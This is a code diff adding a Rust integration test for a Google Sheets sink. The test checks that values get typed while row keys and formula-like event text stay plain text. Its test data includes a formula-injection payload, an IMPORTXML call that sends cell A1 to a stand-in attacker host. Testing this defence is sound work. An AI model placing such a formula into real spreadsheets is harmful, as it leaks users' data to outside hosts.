@@ -334,3 +334,62 @@ async fn a_refusal_with_megabytes_of_message_is_dead_lettered_cut_to_size() {
         detail.len()
     );
 }
+
+/// A sheet written USER_ENTERED (`--user-entered s1/Orders`): Sheets takes
+/// values as typed, so `19.50` lands a number; but a row key stays text
+/// (`00123` is found again, and updated in place, not appended twice), and
+/// text from an event that would be a formula stays text (an event's
+/// `=IMPORTXML(…)` would send the sheet's data away).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_user_entered_sheet_types_values_but_keeps_keys_and_formulas_text() {
+    let (base, key) = sandbox().await;
+    let topic = TestTopic::with_schema_of("sheets.rows.v1", "sheets-sink-typed", 1).await;
+    let dlq = TestTopic::with_schema_of("dlq.sheets-sink.v1", "sheets-sink-typed-dlq", 1).await;
+    let tuning = Tuning {
+        user_entered: vec!["s1/Orders".into()],
+        ..Tuning::quick()
+    };
+    let stop = start_with(&base, &key, &topic.name, &dlq.name, tuning);
+    let injection = "=IMPORTXML(\"https://evil.example/?\"&A1,\"//a\")";
+    send(
+        &topic.name,
+        &[
+            command(&id(961), "00123", "19.50", Some(injection)),
+            command(&id(962), "-7", "-5", Some("'tis")),
+        ],
+    )
+    .await;
+    let rows_of = |rows: usize| {
+        let base = base.clone();
+        move || {
+            let base = base.clone();
+            async move {
+                let grid = grid(&base).await;
+                (grid.len() == rows).then_some(grid)
+            }
+        }
+    };
+    eventually("two rows", WAIT, rows_of(3)).await;
+    send(&topic.name, &[command(&id(963), "00123", "21.00", None)]).await;
+    let rows = eventually("the key's row updated", WAIT, || {
+        let base = &base;
+        async move {
+            let rows = grid(base).await;
+            rows.iter()
+                .any(|row| row.get(1) == Some(&json!(21.0)))
+                .then_some(rows)
+        }
+    })
+    .await;
+    stop.send(()).unwrap();
+
+    assert_eq!(
+        rows,
+        vec![
+            vec![json!("Order"), json!("Total"), json!("Status")],
+            vec![json!("00123"), json!(21.0), json!(injection)],
+            vec![json!("-7"), json!(-5.0), json!("'tis")],
+        ],
+        "keys and formulas text, values typed, one row per key"
+    );
+}
